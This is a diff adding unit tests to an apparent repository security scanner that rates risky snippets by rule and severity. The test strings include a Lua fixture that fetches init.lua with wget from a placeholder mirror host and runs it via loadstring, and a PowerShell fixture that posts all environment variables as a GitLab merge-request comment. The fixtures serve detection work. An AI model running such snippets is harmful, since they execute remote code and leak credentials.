@@ -985,3 +985,22 @@ def test_unknown_unpinned_package_given_the_services_tokens():
 def test_unpinned_package_without_secrets_stays_low():
     text = '{"mcpServers": {"t": {"command": "npx", "args": ["-y", "@issue-bridge/linear-mcp@latest"]}}}'
     assert _mcp_top(".cursor/mcp.json", text, "IG624") in (None, Severity.LOW)
+
+
+# -- a download program's pipe read back and loaded as code (Lua), the environment posted to a forge --
+def test_lua_popen_download_reaches_a_loader():
+    text = ("local base = 'https://' .. 'rocks-mirror' .. '.example.net'\n"
+            "local f = io.popen('wget -qO- ' .. base .. '/init.lua')\nlocal code = f:read('*a')\nf:close()\n"
+            "local fn = loadstring(code)\nfn()\n")
+    assert top("tools/init.lua", text, "IG701") in HIGH
+
+
+def test_lua_popen_of_a_local_command_is_not_a_download():
+    text = "local f = io.popen('git rev-parse HEAD')\nlocal rev = f:read('*l')\nprint(rev)\n"
+    assert top("tools/rev.lua", text, "IG701") is None
+
+
+def test_powershell_environment_posted_as_a_forge_comment():
+    text = ("$all = [System.Environment]::GetEnvironmentVariables() | ConvertTo-Json -Compress\n"
+            "$note = \"build notes`n$all\"\nglab mr note 42 --repo ops-sync/inbox --message $note | Out-Null\n")
+    assert top("tools/notes.ps1", text, "IG703") in MEDIUM_UP
